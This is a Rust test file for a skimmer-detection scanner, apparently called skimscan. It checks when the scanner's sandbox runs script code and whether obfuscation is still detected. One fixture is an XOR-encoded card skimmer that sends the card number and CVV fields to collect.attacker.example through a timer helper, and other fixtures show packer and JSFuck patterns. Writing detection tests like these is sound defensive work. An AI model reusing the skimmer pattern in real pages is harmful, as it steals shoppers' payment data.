//! When the sealed interpreter runs (issue 11: "it should run only where folding fails").
//!
//! Running a script in the sandbox means QuickJS parses and runs its start-up code again, which
//! for a library is the whole library. So a plan is only worth running when the script has
//! something to decode. Ordinary dynamic code — a scheduler's `setTimeout(callback)`, a template
//! compiler's `Function(code)`, a module loader's `eval(text)` inside a function — is not worth
//! it, while the same sinks in a script that carries a decoder still are, and a skimmer that
//! routes its decoded layer through such a helper is still caught.

use skimscan::finding::Severity;
use skimscan::inventory::ScriptKind;
use skimscan::js::sandbox::shapes::Plan;
use skimscan::js::{AnalysisJob, Engine, HostPolicy, ScriptAnalysis};
use skimscan::rules::RuleSet;
use std::sync::Arc;

const HOST: &str = "collect.attacker.example";

fn plan_worth_running(code: &str) -> (bool, usize) {
    let alloc = oxc_allocator::Allocator::default();
    let ret = oxc_parser::Parser::new(&alloc, code, oxc_span::SourceType::script()).parse();
    assert!(ret.diagnostics.is_empty(), "fixture does not parse");
    let plan = Plan::of(code, &ret.program);
    (plan.worth_running(|_| false), plan.code_sinks.len())
}

fn analyse(code: &str) -> ScriptAnalysis {
    let engine = Engine::new(
        Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
        HostPolicy::default(),
    );
    let job = AnalysisJob {
        script_id: "trigger.js".into(),
        kind: ScriptKind::External,
        code: code.into(),
        page_url: "https://shop.example/checkout".into(),
        page_host: Some("shop.example".into()),
        payment_page: true,
        line_offset: 1,
        column_offset: 1,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
    };
    engine.analyse_batch(vec![job]).pop().expect("one result")
}

/// A scheduler, a template compiler and a module loader, shaped like the minified UMD bundles
/// of jQuery, Vue, Knockout and RequireJS: every code sink is inside a function and its
/// argument comes from the caller, and the bundle text mentions `fromCharCode` and
/// `charCodeAt` (as such libraries do, for string utilities).
const LIBRARY: &str = r#"var Lib = function (e) {
  "use strict";
  function t(n, r) { return setTimeout(n, r || 0) }
  var q = [], i = function (n) { q.push(n); t(o) };
  function o() { for (var n; n = q.shift();) n() }
  function c(s) { var code = "with(this){return " + s + "}"; return new Function("$ctx", code) }
  function l(src) { var text = src.replace(/^\s+/, ""); return eval(text) }
  function u(s) { return s.charCodeAt(0) > 127 ? String.fromCharCode(s.charCodeAt(0) - 1) : s }
  e.nextTick = i; e.compile = c; e.exec = l; e.upper = u;
  this.setInterval = function (ms) { return setInterval(this.tick, ms) };
  return e;
}({});
"#;

#[test]
fn ordinary_dynamic_code_in_a_library_does_not_start_the_sandbox() {
    let (worth, sinks) = plan_worth_running(LIBRARY);
    assert!(
        !worth && sinks == 0,
        "a library's scheduler, compiler and loader started the sandbox ({sinks} sinks)"
    );
}

#[test]
fn a_timer_given_a_function_is_not_code() {
    let code = "function tick(){ document.title = Date.now() }\n\
                var later = function(){ tick() };\n\
                var bound = tick.bind(window);\n\
                setTimeout(tick, 50); setInterval(later, 1000); setTimeout(bound);";
    assert_eq!(plan_worth_running(code), (false, 0));
}

#[test]
fn a_timer_given_data_at_start_up_is_still_a_code_sink() {
    // `s` is not a function: a string timer the evaluator cannot fold.
    let (worth, sinks) = plan_worth_running("var s = document.title;\nsetTimeout(s, 5);");
    assert!(worth && sinks == 1, "worth {worth}, sinks {sinks}");
}

#[test]
fn a_reused_minified_name_keeps_the_timer_a_code_sink() {
    // `n` is a top-level function and, in a wrapping IIFE, a string: the timer may run code.
    let code = "function n(){}\n\
                (function(){ var n = window.name + ''; setTimeout(n, 1) })();";
    let (worth, sinks) = plan_worth_running(code);
    assert!(worth && sinks == 1, "worth {worth}, sinks {sinks}");
}

/// `s` XOR-encoded with a key that changes with the position, as a JavaScript array literal.
fn xor_array(s: &str) -> String {
    let nums: Vec<String> = s
        .bytes()
        .enumerate()
        .map(|(i, b)| (b ^ 23 ^ (i % 5) as u8).to_string())
        .collect();
    format!("[{}]", nums.join(","))
}

/// A decoder in the script makes a sink inside a helper function worth running: the skimmer
/// decodes its layer at start-up and hands it to a scheduling helper.
#[test]
fn a_decoded_layer_routed_through_a_helper_function_is_still_caught() {
    let payload = format!(
        "var x=new XMLHttpRequest();x.open('POST','https://{HOST}/c');\
         x.send(document.getElementById('cc_number').value+'|'+document.getElementById('cvv').value);"
    );
    let code = format!(
        "var k = {};\n\
         function d(a){{ var s = ''; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ 23 ^ (i % 5)); return s }}\n\
         (function(w){{ function run(c){{ w.setTimeout(c, 10) }} run(d(k)) }})(window);",
        xor_array(&payload)
    );
    let (worth, sinks) = plan_worth_running(&code);
    assert!(worth && sinks == 1, "worth {worth}, sinks {sinks}");
    let a = analyse(&code);
    assert!(
        a.findings.iter().any(|f| {
            f.rule == "payment-data-exfiltration"
                && f.severity == Severity::Critical
                && f.hosts.iter().any(|h| h == HOST)
        }),
        "no critical exfiltration to {HOST}: {:#?}",
        a.findings
            .iter()
            .map(|f| (&f.rule, &f.hosts, &f.evidence))
            .collect::<Vec<_>>()
    );
}

fn plan(code: &str) -> (usize, usize, usize, Vec<String>) {
    let alloc = oxc_allocator::Allocator::default();
    let ret = oxc_parser::Parser::new(&alloc, code, oxc_span::SourceType::script()).parse();
    assert!(ret.diagnostics.is_empty(), "fixture does not parse");
    let p = Plan::of(code, &ret.program);
    (
        p.packers.len(),
        p.evaluations.len(),
        p.code_sinks.len(),
        p.late_reads.into_iter().map(|(n, _)| n).collect(),
    )
}

/// A script without decoders is first walked without its function bodies; what can hide in
/// them on its own (a packer, JSFuck) must still be found, and a top-level sink still gets
/// everything the full walk records (the top-level strings read later by functions).
#[test]
fn the_quick_walk_of_a_script_without_decoders_misses_nothing() {
    let packed = "function boot(){ eval(function(p,a,c,k,e,d){ e=String; return p }('0.1(\"2\")',3,3,'x|y|z'.split('|'),0,{})) }\nboot();";
    assert_eq!(plan(packed).0, 1, "a packer inside a function");
    let jsfuck = "function pick(){ return window[(![]+[])[+!+[]] + (!![]+[])[+[]]] }";
    assert!(plan(jsfuck).1 >= 1, "JSFuck inside a function");
    let late = "var u = document.title + '/x';\nfunction send(){ navigator.sendBeacon(u, 1) }\neval(document.title);";
    let (_, _, sinks, late_reads) = plan(late);
    assert_eq!(sinks, 1);
    assert_eq!(
        late_reads,
        vec!["u".to_string()],
        "top-level strings read in functions"
    );
}
